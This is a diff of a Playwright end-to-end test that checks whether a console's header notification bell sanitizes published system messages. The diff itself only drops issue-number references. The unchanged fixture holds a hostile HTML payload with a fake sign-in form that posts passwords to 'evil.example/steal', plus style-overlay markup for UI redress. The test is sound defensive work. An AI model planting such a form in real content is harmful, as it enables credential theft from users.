@@ -3,7 +3,7 @@ import type { Browser } from 'playwright-core';
 import { apiToken, e2eLifecycle, openSignedIn, resetMock, shot, type E2EServer } from './harness.js';
 
 /**
- * Issue 24, defect 10: the header bell rendered a published system message with DOMPurify's
+ * The header bell rendered a published system message with DOMPurify's
  * defaults, so a `<style>` restyled the whole console, a `style=` overlay covered it and a form was
  * kept (UI redress for every recipient). It renders through the kit's SafeHtml now. Real Chromium:
  * happy-dom's DOM does not honour the sanitizer's configuration, so only a browser proves it.
@@ -25,7 +25,7 @@ const HOSTILE =
   '<form action="https://evil.example/steal" id="shield-form"><input name="password" type="password"><button type="submit">Sign in</button></form>' +
   '<p><b>Maintenance tonight</b> from 23:00</p>';
 
-describe('the header bell (issue 24, 10)', () => {
+describe('the header bell', () => {
   test('a published <style>, style= overlay or <form> does not survive in the bell; the text does', async () => {
     const token = await apiToken(server);
     const res = await fetch(`${server.url}/v1/systemMessage/add`, {
